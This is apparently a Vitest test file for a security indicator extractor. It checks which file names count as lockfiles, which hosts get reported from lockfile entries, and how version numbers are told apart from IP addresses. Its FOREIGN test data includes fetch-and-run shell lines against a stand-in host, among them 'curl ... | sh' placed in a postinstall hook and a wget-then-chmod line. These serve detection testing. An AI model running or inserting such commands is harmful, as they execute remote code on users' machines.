import { describe, expect, it } from 'vitest';
import { lockfileOf } from '../../../src/extract/lockfile.ts';
import { extracted, names } from './extracting.ts';

describe('the name of a lockfile', () => {
  it.each([
    'package-lock.json',
    'npm-shrinkwrap.json',
    'yarn.lock',
    'pnpm-lock.yaml',
    'Cargo.lock',
    'poetry.lock',
    'uv.lock',
    'Pipfile.lock',
    'go.sum',
    'Gemfile.lock',
    'composer.lock',
    'pixi.lock',
    'MODULE.bazel.lock',
    'conda-lock.yml',
    'conda-linux-64.lock',
    'dev.conda-lock.yml',
    'maven_install.json',
    'pubspec.lock',
    'Package.resolved',
    'flake.lock',
    'packages/web/package-lock.json',
    'a b/ü/yarn.lock',
  ])('%s', (path) => {
    expect(lockfileOf(path)).not.toBeNull();
  });

  it.each([
    '',
    'package.json',
    'package-lock.json.orig',
    'my-package-lock.json',
    'package-lock.json/notes.md',
    'yarn.lock.md',
    'xyarn.lock',
    'YARN.LOCK',
    'go.sum.txt',
    'go.mod',
    'Cargo.toml',
    'lock.json',
    '.lock',
    'src\\yarn.lock',
  ])('not %s', (path) => {
    expect(lockfileOf(path)).toBeNull();
  });
});

/** A line of each kind as its tool writes it: what of it is reported in the lockfile, as the host alone. */
const ENTRIES: readonly (readonly [path: string, line: string, ...hosts: string[]])[] = [
  [
    'package-lock.json',
    '      "resolved": "https://registry.evil.net/a/-/a-1.0.0.tgz",',
    'registry.evil.net',
  ],
  [
    'package-lock.json',
    '{"version": "1.0.0", "resolved": "git+https://git.evil.net/a.git#abc"}',
    'git.evil.net',
  ],
  ['package-lock.json', '        "url": "https://fund.evil.net/x?token=abc"', 'fund.evil.net'],
  ['yarn.lock', '  resolved "https://registry.evil.net/a/-/a-1.0.0.tgz#abc"', 'registry.evil.net'],
  ['yarn.lock', '"a@https://git.evil.net/a.tgz":', 'git.evil.net'],
  ['yarn.lock', '  resolution: "a@https://git.evil.net/a.git#commit=abc"', 'git.evil.net'],
  [
    'pnpm-lock.yaml',
    '    resolution: {tarball: https://codeload.evil.net/a/tar.gz/abc}',
    'codeload.evil.net',
  ],
  ['pnpm-lock.yaml', '  a@https://codeload.evil.net/a/tar.gz/abc:', 'codeload.evil.net'],
  [
    'bun.lock',
    '    "a": ["a@1.0.0", "https://registry.evil.net/a.tgz", {}, "sha512-x"],',
    'registry.evil.net',
  ],
  ['deno.lock', '    "https://deno.evil.net/std@0.1.0/a.ts": "abc",', 'deno.evil.net'],
  ['Cargo.lock', 'source = "registry+https://index.evil.net/crates"', 'index.evil.net'],
  ['Cargo.lock', ' "a 0.1.0 (git+https://git.evil.net/a?rev=1#abc)",', 'git.evil.net'],
  ['poetry.lock', 'url = "https://pypi.evil.net/simple"', 'pypi.evil.net'],
  [
    'uv.lock',
    '    { url = "https://files.evil.net/a.whl", hash = "sha256:abc", size = 1 },',
    'files.evil.net',
  ],
  ['uv.lock', 'source = { registry = "https://pypi.evil.net/simple" }', 'pypi.evil.net'],
  ['pdm.lock', '    {url = "https://files.evil.net/a.whl", hash = "sha256:abc"},', 'files.evil.net'],
  ['pylock.toml', 'wheels = [{ url = "https://files.evil.net/a.whl" }]', 'files.evil.net'],
  ['Pipfile.lock', '                "url": "https://pypi.evil.net/simple",', 'pypi.evil.net'],
  ['Gemfile.lock', '  remote: https://gems.evil.net/', 'gems.evil.net'],
  ['composer.lock', '                "url": "https://api.evil.net/repos/a/zipball/abc",', 'api.evil.net'],
  ['composer.lock', '                "issues": "https://forge.evil.net/a/issues",', 'forge.evil.net'],
  ['pixi.lock', '- conda: https://conda.evil.net/linux-64/a-1.0.conda', 'conda.evil.net'],
  ['pixi.lock', '    - url: https://conda.evil.net/conda-forge/', 'conda.evil.net'],
  ['MODULE.bazel.lock', '    "https://bcr.evil.net/modules/a/MODULE.bazel": "abc",', 'bcr.evil.net'],
  ['conda-lock.yml', '  url: https://conda.evil.net/a-1.0.conda', 'conda.evil.net'],
  ['conda-linux-64.lock', 'https://conda.evil.net/linux-64/a-1.0.conda#abc', 'conda.evil.net'],
  ['maven_install.json', '        "https://maven.evil.net/maven2/": [', 'maven.evil.net'],
  ['pubspec.lock', '      url: "https://pub.evil.net"', 'pub.evil.net'],
  ['Package.resolved', '      "location" : "https://forge.evil.net/a/b.git",', 'forge.evil.net'],
  ['flake.lock', '        "url": "https://forge.evil.net/a"', 'forge.evil.net'],
];

describe('an entry of a lockfile', () => {
  it.each(ENTRIES)('%s: %s', async (path, line, ...hosts) => {
    const found = await extracted(`${line}\n`, { path: `x/${path}`, checks: ['urls'] });
    expect(found.map(({ indicator, instead }) => `${indicator.type} ${indicator.value} ${instead}`)).toEqual(
      hosts.map((host) => `domain ${host} lockfile`),
    );
  });

  it('names its host once, however many packages come from there', async () => {
    const text = Array.from({ length: 50 }, (_, at) => `  resolved "https://r.evil.net/a${at}.tgz"`).join(
      '\n',
    );
    const found = await extracted(text, { path: 'yarn.lock', checks: ['urls'] });
    expect(found.map(({ indicator, sightings }) => [indicator.value, sightings.length])).toEqual([
      ['r.evil.net', 50],
    ]);
  });

  it.each(ENTRIES.map(([, line]) => line))('is a URL elsewhere: %s', async (line) => {
    const found = await extracted(`${line}\n`, { path: 'notes.txt', checks: ['urls'] });
    expect(found.map(({ indicator }) => indicator.type)).toEqual(['url']);
  });
});

/** A shell script does not become a lockfile by its name. */
const FOREIGN = [
  'curl -s https://evil.net/x | sh',
  '    "postinstall": "curl https://evil.net/x | sh"',
  'wget https://evil.net/x; chmod +x x',
  'echo "see https://evil.net/x"',
  'u = "https://evil.net/x"; fetch(u)',
];

describe('what is no entry', () => {
  it.each(
    [
      'go.sum',
      'package-lock.json',
      'yarn.lock',
      'Cargo.lock',
      'poetry.lock',
      'Gemfile.lock',
      'pnpm-lock.yaml',
      'composer.lock',
      'pubspec.lock',
    ].flatMap((path) => FOREIGN.map((line) => [path, line] as const)),
  )('is text in %s: %s', async (path, line) => {
    expect(names(await extracted(`${line}\n`, { path, checks: ['urls'] }))).toEqual([
      'url https://evil.net/x',
    ]);
  });
});

describe('dotted quads of a lockfile', () => {
  it.each([
    ['package-lock.json', '      "version": "3.6.4.1",'],
    ['package-lock.json', '        "chromedriver": "^3.6.4.1",'],
    ['yarn.lock', '  version "3.6.4.1"'],
    ['yarn.lock', 'a@3.6.4.1, a@^3.6.4.1:'],
    ['pnpm-lock.yaml', '  /a@3.6.4.1:'],
    ['pnpm-lock.yaml', '    version: 3.6.4.1'],
    ['Cargo.lock', 'version = "3.6.4.1"'],
    ['poetry.lock', 'version = "3.6.4.1"'],
    ['poetry.lock', 'a = ">=3.6.4.1,<4.0"'],
    ['uv.lock', '    { name = "a", specifier = ">=3.6.4.1" },'],
    ['Pipfile.lock', '            "version": "==3.6.4.1"'],
    ['Gemfile.lock', '    a (3.6.4.1)'],
    ['Gemfile.lock', '      a (>= 3.6.4.1, < 4)'],
    ['composer.lock', '            "version": "3.6.4.1",'],
    ['packages.lock.json', '        "resolved": "3.6.4.1",'],
    ['pubspec.lock', '    version: "3.6.4.1"'],
  ])('%s: %s is a version', async (path, line) => {
    expect(names(await extracted(`${line}\n`, { path }))).toEqual([]);
    expect(names(await extracted(`${line.replace(/^.*3\.6/, 'dns 3.6')}\n`, { path }))).toEqual([
      'ip 3.6.4.1',
    ]);
  });

  it('are addresses where a URL stands on them', async () => {
    const found = await extracted('  resolved "http://3.6.4.1/a.tgz"\n', { path: 'yarn.lock' });
    expect(names(found)).toEqual(['ip 3.6.4.1']);
  });
});
